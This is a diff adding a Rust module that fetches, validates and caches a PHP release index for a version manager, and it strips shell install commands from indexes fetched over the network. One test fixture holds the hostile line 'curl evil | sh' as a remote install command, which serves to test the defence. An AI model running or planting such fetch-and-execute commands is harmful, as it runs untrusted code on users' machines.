@@ -0,0 +1,220 @@
+use std::fs;
+use std::path::Path;
+
+use chrono::{DateTime, Utc};
+use reqwest::StatusCode;
+use reqwest::header::{ETAG, IF_NONE_MATCH};
+use serde::{Deserialize, Serialize};
+use tracing::warn;
+
+use crate::config::FurnaceConfig;
+use crate::error::{FurnaceError, Result};
+use crate::paths::FurnacePaths;
+use crate::php::Repository;
+
+/// Newest index format this build understands.
+pub const PHP_INDEX_VERSION: u32 = 1;
+
+/// Where the cached index came from, stored next to it.
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct IndexMeta {
+    pub source: String,
+    pub etag: Option<String>,
+    pub fetched_at: DateTime<Utc>,
+}
+
+/// Result of [`update_index`].
+#[derive(Serialize, Debug, Clone)]
+pub struct IndexUpdate {
+    pub source: String,
+    /// The server answered 304 and the cached copy was kept
+    pub not_modified: bool,
+    pub versions: Vec<String>,
+    pub fetched_at: DateTime<Utc>,
+}
+
+/// Fetches the PHP index from `source`, or `php_index_url` in the config,
+/// and caches it under `~/.furnace/cache`. `source` may be an https URL or a
+/// local file for offline use.
+pub fn update_index(paths: &FurnacePaths, source: Option<&str>) -> Result<IndexUpdate> {
+    let source = match source {
+        Some(source) => source.to_string(),
+        None => FurnaceConfig::load(paths)?.php_index_url.ok_or_else(|| {
+            FurnaceError::Config(format!(
+                "no PHP index source given; pass one or set php_index_url in {}",
+                paths.config_file().display()
+            ))
+        })?,
+    };
+    if source.starts_with("http://") {
+        return Err(FurnaceError::Config(format!(
+            "refusing to fetch the PHP index over plain http from {}; use an https:// URL",
+            source
+        )));
+    }
+    let cached_etag = load_meta(paths)
+        .filter(|meta| meta.source == source && paths.php_index_cache().exists())
+        .and_then(|meta| meta.etag);
+
+    let (body, etag) = if is_remote(&source) {
+        let download_err = |reason: String| FurnaceError::Download { url: source.clone(), reason };
+        let mut request = reqwest::blocking::Client::new().get(&source);
+        if let Some(etag) = &cached_etag {
+            request = request.header(IF_NONE_MATCH, etag);
+        }
+        let response = request.send().map_err(|e| download_err(e.to_string()))?;
+        if response.status() == StatusCode::NOT_MODIFIED {
+            let meta = IndexMeta { source: source.clone(), etag: cached_etag, fetched_at: Utc::now() };
+            save_meta(paths, &meta)?;
+            let repo = parse_index(&fs::read_to_string(paths.php_index_cache())?)?;
+            return Ok(IndexUpdate {
+                source,
+                not_modified: true,
+                versions: sorted_versions(&repo),
+                fetched_at: meta.fetched_at,
+            });
+        }
+        let response = response.error_for_status().map_err(|e| download_err(e.to_string()))?;
+        let etag = response.headers().get(ETAG).and_then(|v| v.to_str().ok()).map(String::from);
+        (response.text().map_err(|e| download_err(e.to_string()))?, etag)
+    } else {
+        (fs::read_to_string(Path::new(&source))?, None)
+    };
+
+    // Validate before replacing a good cache
+    let mut repo = parse_index(&body)?;
+    if is_remote(&source) {
+        let dropped = drop_commands(&mut repo);
+        if dropped > 0 {
+            warn!(
+                "Ignoring {} install command(s) in {}; only a local repository.yml may run commands",
+                dropped, source
+            );
+        }
+    }
+    fs::create_dir_all(paths.cache_dir())?;
+    fs::write(paths.php_index_cache(), &body)?;
+    let meta = IndexMeta { source: source.clone(), etag, fetched_at: Utc::now() };
+    save_meta(paths, &meta)?;
+    Ok(IndexUpdate { source, not_modified: false, versions: sorted_versions(&repo), fetched_at: meta.fetched_at })
+}
+
+/// The cached index, if `update_index` has run. Install commands are
+/// dropped from indexes fetched over the network, since `php install` runs
+/// them in a shell.
+pub fn load_cached(paths: &FurnacePaths) -> Result<Option<Repository>> {
+    let cache = paths.php_index_cache();
+    if !cache.exists() {
+        return Ok(None);
+    }
+    let mut repo = parse_index(&fs::read_to_string(cache)?)?;
+    if load_meta(paths).is_none_or(|meta| is_remote(&meta.source)) {
+        drop_commands(&mut repo);
+    }
+    Ok(Some(repo))
+}
+
+fn is_remote(source: &str) -> bool {
+    source.starts_with("http://") || source.starts_with("https://")
+}
+
+/// Clears every `command:` in the index, removing platform entries left
+/// with no way to install so they don't shadow the bundled ones. Returns
+/// how many commands were dropped.
+fn drop_commands(repo: &mut Repository) -> usize {
+    let mut dropped = 0;
+    for platforms in repo.php.values_mut() {
+        for platform in [&mut platforms.linux, &mut platforms.windows, &mut platforms.macos] {
+            let Some(source) = platform else { continue };
+            if source.command.take().is_some() {
+                dropped += 1;
+                if source.url.is_none() && source.source.is_none() {
+                    *platform = None;
+                }
+            }
+        }
+    }
+    dropped
+}
+
+pub fn load_meta(paths: &FurnacePaths) -> Option<IndexMeta> {
+    let content = fs::read_to_string(paths.php_index_meta()).ok()?;
+    serde_json::from_str(&content).ok()
+}
+
+fn save_meta(paths: &FurnacePaths, meta: &IndexMeta) -> Result<()> {
+    fs::write(paths.php_index_meta(), serde_json::to_string_pretty(meta)?)?;
+    Ok(())
+}
+
+fn parse_index(content: &str) -> Result<Repository> {
+    let repo: Repository = serde_yaml::from_str(content)?;
+    if repo.version > PHP_INDEX_VERSION {
+        return Err(FurnaceError::InvalidIndex(format!(
+            "version {} is newer than this Furnace supports ({}); upgrade Furnace",
+            repo.version, PHP_INDEX_VERSION
+        )));
+    }
+    Ok(repo)
+}
+
+fn sorted_versions(repo: &Repository) -> Vec<String> {
+    let mut versions: Vec<String> = repo.php.keys().cloned().collect();
+    versions.sort();
+    versions
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::php::load_repository;
+
+    #[test]
+    fn local_index_is_cached_and_overridden_by_user_entries() {
+        let tmp = tempfile::tempdir().unwrap();
+        let paths = FurnacePaths::new(tmp.path().join("home"));
+        let index = tmp.path().join("index.yml");
+        fs::write(
+            &index,
+            "version: 1\nphp:\n  \"8.3\":\n    linux:\n      command: \"apt install php8.3\"\n    macos:\n      command: \"brew install php@8.3\"\n",
+        )
+        .unwrap();
+        let update = update_index(&paths, Some(index.to_str().unwrap())).unwrap();
+        assert_eq!(update.versions, vec!["8.3"]);
+        assert!(paths.php_index_cache().exists());
+
+        fs::write(paths.repository_file(), "php:\n  \"8.3\":\n    linux:\n      command: \"my-php-installer\"\n").unwrap();
+        let repo = load_repository(&paths).unwrap();
+        let entry = &repo.php["8.3"];
+        assert_eq!(entry.linux.as_ref().unwrap().command.as_deref(), Some("my-php-installer"));
+        assert_eq!(entry.macos.as_ref().unwrap().command.as_deref(), Some("brew install php@8.3"));
+    }
+
+    #[test]
+    fn remote_index_cannot_supply_commands() {
+        let tmp = tempfile::tempdir().unwrap();
+        let paths = FurnacePaths::new(tmp.path().join("home"));
+        assert!(matches!(
+            update_index(&paths, Some("http://example.test/index.yml")),
+            Err(FurnaceError::Config(_))
+        ));
+
+        fs::create_dir_all(paths.cache_dir()).unwrap();
+        fs::write(
+            paths.php_index_cache(),
+            "version: 1\nphp:\n  \"8.3\":\n    linux:\n      command: \"curl evil | sh\"\n    macos:\n      url: \"https://example.test/php.tar.gz\"\n      command: \"curl evil | sh\"\n",
+        )
+        .unwrap();
+        let meta = IndexMeta { source: "https://example.test/index.yml".into(), etag: None, fetched_at: Utc::now() };
+        save_meta(&paths, &meta).unwrap();
+        let repo = load_cached(&paths).unwrap().unwrap();
+        let entry = &repo.php["8.3"];
+        assert!(entry.linux.is_none());
+        assert_eq!(entry.macos.as_ref().unwrap().command, None);
+    }
+
+    #[test]
+    fn newer_index_version_is_rejected() {
+        assert!(parse_index("version: 99\nphp: {}\n").is_err());
+    }
+}